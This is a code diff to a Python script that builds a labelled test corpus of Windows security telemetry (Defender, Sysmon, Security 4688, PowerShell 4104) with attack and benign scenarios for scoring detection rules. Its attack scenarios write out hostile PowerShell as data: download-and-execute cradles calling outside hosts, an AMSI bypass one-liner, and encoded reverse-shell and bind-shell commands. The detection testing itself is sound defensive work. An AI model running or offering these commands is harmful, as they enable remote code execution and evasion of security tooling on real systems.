@@ -9,6 +9,7 @@ tests/corpus_telemetry/build.py`` rewrites the files; the scoring test reads the
 from __future__ import annotations
 
 import base64
+import html
 import json
 from collections import defaultdict
 from pathlib import Path
@@ -87,7 +88,6 @@ def created(when: str, sid: str, pid: int, name: str, cmd: str, parent: str = "e
 
 
 def build_defender() -> None:
-    # --- attacks -----------------------------------------------------------------------------
     sid = "d-meterpreter-psexec"
     scenario(sid, "attack", "defender", "Metasploit powershell extension: powershell_execute runs "
              "a command in the meterpreter process (rapid7 docs, 'Powershell Extension')")
@@ -161,7 +161,6 @@ def build_defender() -> None:
     connect(t("10:40"), host, "10.1.0.90", 50999, action="InboundConnectionAccepted",
             local_port=8443)
 
-    # --- benign ------------------------------------------------------------------------------
     sid = "d-winrm-admin"
     scenario(sid, "benign", "defender", "admin remoting: Enter-PSSession / Invoke-Command over "
              "WinRM 5985/5986 and SMB to servers")
@@ -244,15 +243,13 @@ def build_defender() -> None:
 
 def sysmon(computer: str, when: str, event_id: int, data: dict[str, str]) -> None:
     def esc(value: str) -> str:
-        return (value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
-                .replace('"', "&quot;"))
+        return html.escape(value, quote=True).replace("&#x27;", "'")
     xml = ("<DataItem type=\"System.XmlData\"><EventData xmlns=\"http://schemas.microsoft.com/"
            "win/2004/08/events/event\">"
            + "".join(f'<Data Name="{k}">{esc(v)}</Data>' for k, v in data.items())
            + "</EventData></DataItem>")
     source = "Microsoft-Windows-Sysmon" if event_id in (1, 3) else "Microsoft-Windows-PowerShell"
-    log = ("Microsoft-Windows-Sysmon/Operational" if event_id in (1, 3)
-           else "Microsoft-Windows-PowerShell/Operational")
+    log = f"{source}/Operational"
     sentinel["Event"].append({"TimeGenerated": when, "Computer": computer, "EventID": event_id,
                               "Source": source, "EventLog": log, "EventData": xml,
                               "UserName": "CONTOSO\\user"})
@@ -301,66 +298,54 @@ def build_sentinel() -> None:
     scenario(c, "attack", "sentinel", "TCP reverse-shell one-liner (nishang "
              "Invoke-PowerShellTcpOneLine) seen by Sysmon event 1")
     sysmon_process(c, t("10:00"), 8100, PS, f"powershell -nop -c \"{SHELL}\"")
-
     c = "s-4688-encoded-shell"
     scenario(c, "attack", "sentinel", "the same shell as -EncodedCommand (revshells.com "
              "'PowerShell #3 (Base64)') seen by Security 4688")
     security_4688(c, t("10:05"), "0x1fa4", PS, f"powershell -e {enc(SHELL)}")
-
     c = "s-4688-stdin-cradle"
     scenario(c, "attack", "sentinel", "cradle handed to powershell on standard input "
              "(Invoke-Obfuscation launcher descriptions)")
     security_4688(c, t("10:07"), "0x2000", r"C:\Windows\System32\cmd.exe",
                   "cmd.exe /c echo IEX (New-Object Net.WebClient).DownloadString('https://"
                   "cdn.files-example.net/a.ps1') | powershell -NoProfile -")
-
     c = "s-4104-obfuscated-shell"
     scenario(c, "attack", "sentinel", "an Invoke-Obfuscation-encoded shell whose 4104 script "
              "block holds the decoded code (PowerShell script block logging docs)")
     script_block(c, t("10:10"), SHELL, "{6a1b0c2d-0000-4000-8000-000000000001}")
-
     c = "s-4104-cradle"
     scenario(c, "attack", "sentinel", "plain-http cradle in a script block (Cobalt Strike "
              "scripted web delivery shape)")
     script_block(c, t("10:12"), "IEX ((new-object net.webclient).downloadstring("
                  "'http://198.51.100.7:80/a'))", "{6a1b0c2d-0000-4000-8000-000000000002}")
-
     c = "s-4104-amsi-bypass"
     scenario(c, "attack", "sentinel", "Empire stager's AMSI bypass as logged in 4104 (Empire "
              "stager descriptions)")
     script_block(c, t("10:14"), "$a=[Ref].Assembly.GetType('System.Management.Automation."
                  "AmsiUtils');$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,"
                  "$true)", "{6a1b0c2d-0000-4000-8000-000000000003}")
-
     c = "s-sysmon-bind"
     scenario(c, "attack", "sentinel", "powercat -l -p 4444 -e cmd accepted a peer (Sysmon 3, "
              "Initiated=false)")
     sysmon_net(c, t("10:20"), 8200, PS, False, "10.1.0.77", 51234, "10.1.0.20", 4444)
-
     c = "s-sysmon-internal-beacon"
     scenario(c, "attack", "sentinel", "Empire agent beaconing to an internal listener (Sysmon 3)")
     for minute in range(10, 40, 5):
         sysmon_net(c, t(f"11:{minute}"), 8300, PS, True, "10.1.0.21", 50000 + minute,
                    "10.10.10.5", 8080)
-
     c = "s-sysmon-public-shell"
     scenario(c, "attack", "sentinel", "a -File reverse shell to a public address (Sysmon 3)")
     sysmon_net(c, t("10:30"), 8400, PS, True, "10.1.0.22", 50400, "203.0.113.57", 443)
-
-    # --- benign ------------------------------------------------------------------------------
     c = "s-4688-chocolatey"
     scenario(c, "benign", "sentinel", "Chocolatey bootstrap in Security 4688")
     security_4688(c, t("10:00"), "0x2100", PS, "powershell -NoProfile -ExecutionPolicy Bypass "
                   "-Command \"iex ((New-Object System.Net.WebClient).DownloadString('https://"
                   "community.chocolatey.org/install.ps1'))\"")
-
     c = "s-sysmon-admin"
     scenario(c, "benign", "sentinel", "admin one-liners in Sysmon 1 (PowerShell docs examples)")
     sysmon_process(c, t("10:00"), 8500, PS, "powershell.exe -Command \"Get-Service | "
                    "Where-Object Status -eq 'Running'\"")
     sysmon_process(c, t("10:01"), 8501, PS, "powershell.exe -NoProfile -Command "
                    "\"Test-NetConnection -ComputerName web01 -Port 443\"")
-
     c = "s-4104-benign-blocks"
     scenario(c, "benign", "sentinel", "script blocks of admin scripts: a TcpClient port probe, "
              "a health check with Invoke-WebRequest, a module function")
@@ -372,21 +357,17 @@ def build_sentinel() -> None:
     script_block(c, t("10:02"), "function Get-DiskReport { Get-Volume | Where-Object "
                  "SizeRemaining -lt 10GB | Select-Object DriveLetter, SizeRemaining }",
                  "{7a1b0c2d-0000-4000-8000-000000000003}")
-
     c = "s-sysmon-admin-remoting"
     scenario(c, "benign", "sentinel", "WinRM, SMB and RDP from an admin's PowerShell (Sysmon 3)")
     for i, port in enumerate((5985, 5986, 445, 3389)):
         sysmon_net(c, t(f"11:{10 + i}"), 8600, PS, True, "10.1.0.30", 50600 + i,
                    f"10.0.2.{10 + i}", port)
-
     c = "s-sysmon-admin-web"
     scenario(c, "benign", "sentinel", "an admin's first request to an internal web app (Sysmon 3)")
     sysmon_net(c, t("11:30"), 8650, PS, True, "10.1.0.32", 50650, "10.0.9.9", 443)
-
     c = "s-sysmon-m365"
     scenario(c, "benign", "sentinel", "PowerShell to Exchange Online (Microsoft 365 range)")
     sysmon_net(c, t("10:40"), 8700, PS, True, "10.1.0.31", 50700, "52.96.10.10", 443)
-
     c = "s-sysmon-loopback-listener"
     scenario(c, "benign", "sentinel", "Pode dev server accepting loopback connections")
     sysmon_net(c, t("10:45"), 8800, PS, False, "127.0.0.1", 50800, "127.0.0.1", 8080)
